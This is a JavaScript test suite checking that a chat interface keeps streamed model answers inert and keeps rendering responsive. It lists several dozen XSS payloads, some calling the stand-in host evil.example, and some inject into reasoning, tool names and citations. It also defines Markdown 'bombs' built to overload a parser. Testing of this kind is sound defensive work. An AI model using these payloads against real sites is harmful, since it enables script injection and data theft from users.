// Answers that mean harm: they stay text, and they do not hold the page up.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { lastTurn, launch, open, script, scriptFolder, send, serve, settled, skip } from "./harness.mjs";

const PWN = "window.pwned=1;alert(1);fetch('http://evil.example/')";
const PAYLOADS = [
  `<script>${PWN}</script>`,
  `<ScRiPt src="http://evil.example/x.js"></sCrIpT>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="http://evil.example/pixel.png">`,
  `![pixel](http://evil.example/pixel.png)`,
  `![x](javascript:${PWN})`,
  `![x" onerror="${PWN}](http://evil.example/y.png "t\\" onerror=alert(1)")`,
  `[click](javascript:${PWN})`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](java&#115;cript:alert(1))`,
  `[click](&#x6a;avascript:alert(1))`,
  `[click](data:text/html,<script>${PWN}</script>)`,
  `[click](vbscript:msgbox(1))`,
  `<a href="javascript:${PWN}">click</a>`,
  `<javascript:alert(1)>`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `<svg onload="${PWN}"><animate onbegin="${PWN}" attributeName=x></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>`,
  `<iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x">`,
  `<link rel=stylesheet href="http://evil.example/x.css"><style>@import 'http://evil.example/y.css';</style>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<form action="http://evil.example/"><input autofocus onfocus="${PWN}"><button>Go</button></form>`,
  `<body onload="${PWN}"><details open ontoggle="${PWN}"><video><source onerror="${PWN}"></video>`,
  `<div style="background:url(http://evil.example/bg.png);position:fixed;inset:0">over everything</div>`,
  `<noscript><p title="</noscript><img src=x onerror='${PWN}'>"></noscript>`,
  `<template><img src=x onerror="${PWN}"></template><xmp><script>${PWN}</script></xmp>`,
  `\`\`\`html" onmouseover="${PWN}\n<script>${PWN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror="${PWN}">\ncode\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror="${PWN}"> | [x](javascript:alert(1)) |`,
  `<a id="prompt" name="body">clobber</a><form id="composer"><input name="children"></form>`,
  `[x](http://a.example/"onmouseover="${PWN})`,
  `<!--><img src=x onerror="${PWN}">-->`,
  `<p/onclick=${PWN}>\u0000<scr\u0000ipt>${PWN}</scr\u0000ipt>`,
  `[here](#elsewhere) and [there](/page.js) and [file](file:///etc/passwd) and [blob](blob:http://evil.example/1)`,
];

/** Ways to give the reader of Markdown more work than it deserves. */
const BOMBS = {
  quotes: "> ".repeat(100_000),
  "quotes-dense": ">".repeat(100_000),
  brackets: "[".repeat(100_000),
  images: "![".repeat(50_000),
  links: "[a](".repeat(40_000),
  "links-open": "[a](<b".repeat(30_000),
  emphasis: "*a _b ".repeat(30_000),
  stars: "*".repeat(100_000),
  "stars-apart": "a**b".repeat(30_000) + "c*".repeat(20_000),
  backticks: Array.from({ length: 400 }, (_, length) => "`".repeat(length + 1)).join(" "),
  lists: "- ".repeat(50_000),
  "lists-indented": Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  html: "<a ".repeat(40_000),
  entities: "&#x".repeat(50_000),
  table: `${"|a".repeat(5_000)}|\n${"|-".repeat(5_000)}|\n${`${"|b".repeat(100)}\n`.repeat(200)}`,
  word: "x".repeat(300_000),
};

/** How many nodes the page may add for each that it shows in the end, and for each piece of the text. */
const MOST_WORK = 5;

/** What a slow machine may show of a bomb once, before the page has found that it is one. Each piece again would be millions. */
const SHOWN_ONCE = 100_000;

/** The most pieces of a text. */
const PIECES = 400;

describe("hostile answers", { skip }, () => {
  let chromium;
  let server;
  before(async () => {
    const scripts = {};
    PAYLOADS.forEach((payload, index) => {
      scripts[`whole-${index}`] = script([payload]);
      scripts[`split-${index}`] = script([...payload]);
    });
    for (const [name, text] of Object.entries(BOMBS)) scripts[`bomb-${name}`] = script(pieces(text));
    scripts.ordinary = script(pieces("Some *ordinary* text with `code`.\n\n- and\n- a list\n\n".repeat(1_800)));
    scripts.book = script(
      pieces("A paragraph of a long book, with **bold** words and [links](https://a.example/).\n\n".repeat(12_000)),
    );
    scripts.elsewhere = script(["Text."], hiddenPlaces(`<img src=x onerror="${PWN}">`));
    chromium = await launch();
    server = await serve(["--local", "--scripts", scriptFolder(scripts)]);
  });
  after(async () => {
    await chromium?.close();
    await server?.stop();
  });

  for (const way of ["whole", "split"]) {
    test(`${PAYLOADS.length} payloads, ${way}, stay inert`, async () => {
      const { page, calm, close } = await open(chromium, server.url);
      for (const index of PAYLOADS.keys()) {
        await send(page, `payload ${index}`, `emulator.${way}-${index}`);
        await settled(page);
        assert.equal(await page.locator(".problem").count(), 0, `payload ${index} failed otherwise`);
      }
      await harmless(page);
      // The same texts, from where they were kept.
      await page.reload();
      await page.waitForFunction((count) => document.querySelectorAll(".turn").length === count, PAYLOADS.length);
      await settled(page);
      await harmless(page);
      await calm();
      await close();
    });
  }

  test("payloads in names, reasoning, tools and citations stay inert", async () => {
    const { page, calm, close } = await open(chromium, server.url);
    await send(page, `<img src=x onerror="${PWN}">`, "emulator.elsewhere");
    await settled(page);
    assert.equal(await lastTurn(page).locator(".citations li").count(), 2);
    assert.equal(await lastTurn(page).locator(".citations a").count(), 0);
    await harmless(page);
    await send(page, "and in an error", `<img src=x onerror="${PWN}">`);
    await settled(page);
    await harmless(page);
    await calm();
    await close();
  });

  test("a Markdown bomb is not shown again for each piece", async (context) => {
    const { page, calm, close } = await open(chromium, server.url);
    for (const [name, text] of Object.entries(BOMBS)) {
      await page.click("#new");
      await page.evaluate(watchTheWork);
      await send(page, name, `emulator.bomb-${name}`);
      // The page has ended its work, also for a text that never ends to be read.
      await settled(page, 60_000);
      const { added, shown: nodes, longestGap } = await page.evaluate(workDone);
      context.diagnostic(`${name}: ${added} nodes added, ${nodes} shown, held up for ${longestGap} ms`);
      assert(added < SHOWN_ONCE + MOST_WORK * (nodes + PIECES), `${name} added ${added} nodes and shows ${nodes}`);
      assert.equal(await page.locator(".problem").count(), 0, name);
      const shown = (await lastTurn(page).locator(".parts").textContent()).length;
      assert(shown > 0 || /^[\s>*-]*$/.test(text), `${name} shows nothing`);
    }
    await calm();
    await close();
  });

  test("a book of a megabyte is shown as it comes, and each paragraph is added once", async (context) => {
    const { page, calm, close } = await open(chromium, server.url);
    await page.evaluate(watchTheWork);
    await send(page, "A book", "emulator.book");
    await settled(page, 120_000);
    const { added, shown: nodes, longestGap } = await page.evaluate(workDone);
    context.diagnostic(`${added} nodes added, ${nodes} shown, held up for ${longestGap} ms`);
    assert.equal(await lastTurn(page).locator(".prose p").count(), 12_000);
    // A page that shows all of it again for each piece adds 200 times as many.
    assert(added < 2 * nodes, `${added} nodes added, ${nodes} shown`);
    await calm();
    await close();
  });
});

/** Text as a model sends it, in pieces. */
function pieces(text) {
  const size = Math.max(64, Math.ceil(text.length / PIECES));
  return Array.from({ length: Math.ceil(text.length / size) }, (_, at) => text.slice(at * size, (at + 1) * size));
}

/** Everything of an answer that is not its text. */
function hiddenPlaces(payload) {
  const event = (type, body) => ({ event: { type, payload: body } });
  const delta = (index, body) => event("contentBlockDelta", { contentBlockIndex: index, delta: body });
  const cited = (location) =>
    delta(9, { citation: { title: payload, source: payload, sourceContent: [{ text: payload }], location } });
  return [
    delta(0, { reasoningContent: { text: payload } }),
    event("contentBlockStop", { contentBlockIndex: 0 }),
    event("contentBlockStart", { contentBlockIndex: 1, start: { toolUse: { toolUseId: "t1", name: payload } } }),
    delta(1, { toolUse: { input: JSON.stringify({ payload }) } }),
    event("contentBlockStop", { contentBlockIndex: 1 }),
    cited({ web: { url: "javascript:alert(1)", domain: payload } }),
    cited({ documentPage: { documentIndex: 0, start: 1, end: 2 } }),
  ];
}

/** Nothing in the turns can run, load, submit or lead anywhere but out. */
async function harmless(page) {
  const found = await page.evaluate(() => {
    const wrong = window.pwned ? ["a script ran"] : [];
    for (const element of document.querySelectorAll("#turns *")) {
      const tag = element.tagName.toLowerCase();
      if (/^(script|img|svg|math|iframe|object|embed|link|style|meta|base|form|input|template|video)$/.test(tag))
        wrong.push(tag);
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on") || name === "style" || name === "id" || name === "srcdoc")
          wrong.push(`${tag} ${name}`);
        if (name === "href" && !/^(https?|mailto):/.test(value)) wrong.push(`${tag} ${name}=${value}`);
      }
    }
    return wrong;
  });
  assert.deepEqual(found, []);
}

/** Runs in the page: how many nodes it adds, and, as a figure, the longest time in which nothing else could run. */
function watchTheWork() {
  clearInterval(window.clock);
  window.observer?.disconnect();
  window.work = { added: 0, longestGap: 0 };
  window.allNodes = (node) => 1 + [...node.childNodes].reduce((sum, child) => sum + window.allNodes(child), 0);
  window.observer = new MutationObserver((records) => {
    for (const { addedNodes } of records) for (const node of addedNodes) window.work.added += window.allNodes(node);
  });
  window.observer.observe(document.body, { childList: true, subtree: true });
  let last = performance.now();
  window.clock = setInterval(() => {
    const now = performance.now();
    window.work.longestGap = Math.max(window.work.longestGap, Math.round(now - last));
    last = now;
  }, 10);
}

/** Runs in the page: the work until now, and how many nodes the last turn has. */
function workDone() {
  return { ...window.work, shown: window.allNodes([...document.querySelectorAll(".turn")].at(-1)) };
}
